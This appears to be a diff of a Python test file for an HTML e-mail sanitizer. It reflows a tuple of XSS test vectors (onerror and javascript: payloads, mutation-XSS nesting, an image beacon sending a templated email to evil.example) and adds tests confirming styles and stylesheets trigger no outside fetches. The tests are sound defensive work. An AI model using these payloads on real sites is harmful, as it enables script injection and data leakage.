@@ -42,8 +42,9 @@ VECTORS = (
     "<video><source onerror=alert(1)></video>", "<marquee onstart=alert(1)>x</marquee>",
     "<table background=javascript:alert(1)><tr><td>x</table>", "<img src=https://evil.example/{{email}}>",
     "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
-    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<plaintext><img onerror=alert(1)>",
-    "<a href='//evil.example'>x</a>", "<a href='/settings/'>x</a>", "<p title='{{x}}'>x</p>", "<input autofocus onfocus=alert(1)>x",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<plaintext><img onerror=alert(1)>", "<input autofocus onfocus=alert(1)>x",
+    "<a href='//evil.example'>x</a>", "<a href='/settings/'>x</a>", "<p title='{{x}}'>x</p>",
 )  # fmt: skip
 
 
@@ -97,9 +98,10 @@ def test_layout_of_an_e_mail_stays() -> None:
     given_html = (
         '<!doctype html><html><head><title>News</title><style type="text/css">.card td { padding: 4px; color: #123 } '
         "@media only screen and (max-width: 600px) { .card { width: 100% !important } }</style></head>"
-        '<body style="margin:0;background-color:#eee"><table class="card" width="600" bgcolor="#ffffff" cellpadding="0" '
-        'align="center"><tr><td valign="top" colspan="2" style="font-family:Arial, sans-serif;padding:8px">'
-        '<img src="cid:0123456789abcdef01234567" alt="Logo" width="120"><a href="https://example.fi/?a=1&amp;b=2">Read</a>'
+        '<body style="margin:0;background-color:#eee"><table class="card" width="600" bgcolor="#ffffff" cellpadding="0"'
+        ' align="center"><tr><td valign="top" colspan="2" style="font-family:Arial, sans-serif;padding:8px">'
+        '<img src="cid:0123456789abcdef01234567" alt="Logo" width="120">'
+        '<a href="https://example.fi/?a=1&amp;b=2">Read</a>'
         "</td></tr></table></body></html>"
     )
     found = clean_mail(given_html)
@@ -112,7 +114,8 @@ def test_layout_of_an_e_mail_stays() -> None:
 
 
 @pytest.mark.parametrize(("style", "kept"), [
-    ("color:red;position:fixed", "color:red"), ("background:url(https://a.fi/x.png)", "background:url(https://a.fi/x.png)"),
+    ("color:red;position:fixed", "color:red"),
+    ("background:url(https://a.fi/x.png)", "background:url(https://a.fi/x.png)"),
     ("background:url('cid:abc')", 'background:url("cid:abc")'), ("background:url(http://a.fi/x.png)", ""),
     ("background:url(//a.fi/x.png)", ""), ("background:URL(javascript:x)", ""), ("background:image-set('x' 1x)", ""),
     ("color:re\\64", "color:red"), ("width:calc(100% - 2px)", "width:calc(100% - 2px)"), ("color:{{x}}", ""),
@@ -179,7 +182,7 @@ def listener() -> Iterator[tuple[str, list[str]]]:
     asked: list[str] = []
 
     class Handler(BaseHTTPRequestHandler):
-        def do_GET(self) -> None:  # noqa: N802 - the library's name
+        def do_GET(self) -> None:
             asked.append(self.path)
             self.send_response(200)
             self.end_headers()
@@ -198,7 +201,7 @@ def listener() -> Iterator[tuple[str, list[str]]]:
 
 
 def test_nothing_is_fetched_by_cleaning_or_by_putting_styles_on_elements(listener: tuple[str, list[str]]) -> None:
-    from services.mailings.content import Written, compose, inlined  # noqa: PLC0415 - the layer above
+    from services.mailings.content import Written, compose, inlined
 
     address, asked = listener
     page = (f"<html><head><link rel=stylesheet href='{address}/a.css'><style>@import '{address}/b.css'; "
